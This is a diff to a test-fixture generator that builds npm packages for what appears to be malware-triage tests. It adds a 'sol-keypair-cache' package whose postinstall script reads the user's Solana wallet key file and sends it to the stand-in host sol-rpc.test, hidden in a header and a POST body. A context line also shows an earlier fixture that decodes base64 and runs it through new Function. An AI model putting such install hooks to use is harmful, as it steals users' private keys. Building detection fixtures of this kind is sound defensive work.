@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -121,6 +121,34 @@ PACKAGES = {
             "  const s = Buffer.from(r.map(x => x.join('')).join(''), 'base64').toString();\n"
             "  try { new Function('require', 'process', s)(require, process); } catch (x) {}\n"
             "});\n", 0o644),
+    }),
+    "solkey": npm_pkg({"name": "sol-keypair-cache", "version": "1.0.2",
+                       "scripts": {"postinstall": "node cache.js"}}, {
+        "cache.js": (
+            "const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');\n"
+            "const A = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';\n"
+            "function b58(b) {\n"
+            "  const d = [0];\n"
+            "  for (const x of b) {\n"
+            "    let c = x;\n"
+            "    for (let j = 0; j < d.length; j++) { c += d[j] * 256; d[j] = c % 58; c = Math.floor(c / 58); }\n"
+            "    while (c) { d.push(c % 58); c = Math.floor(c / 58); }\n"
+            "  }\n"
+            "  let s = '';\n"
+            "  for (const x of b) { if (x) break; s += '1'; }\n"
+            "  for (let j = d.length - 1; j >= 0; j--) s += A[d[j]];\n"
+            "  return s;\n"
+            "}\n"
+            "let key;\n"
+            "try {\n"
+            "  key = Buffer.from(JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config/solana/id.json'), 'utf8')));\n"
+            "} catch (e) { process.exit(0); }\n"
+            "const cf = Buffer.from(key.toString('hex')).toString('base64');\n"
+            "http.get({host: 'sol-rpc.test', path: '/health', headers: {'x-amz-cf-id': cf}}, r => r.resume()).on('error', () => {});\n"
+            "const q = http.request({host: 'sol-rpc.test', path: '/v1/tx', method: 'POST',\n"
+            "                        headers: {'content-type': 'application/json'}}, r => r.resume());\n"
+            "q.on('error', () => {});\n"
+            "q.end(JSON.stringify({signer: b58(key)}));\n", 0o644),
     }),
     "server": npm_pkg({"name": "tiny-dev-server", "version": "0.2.0",
                        "bin": {"tiny-dev-server": "cli.js"}}, {
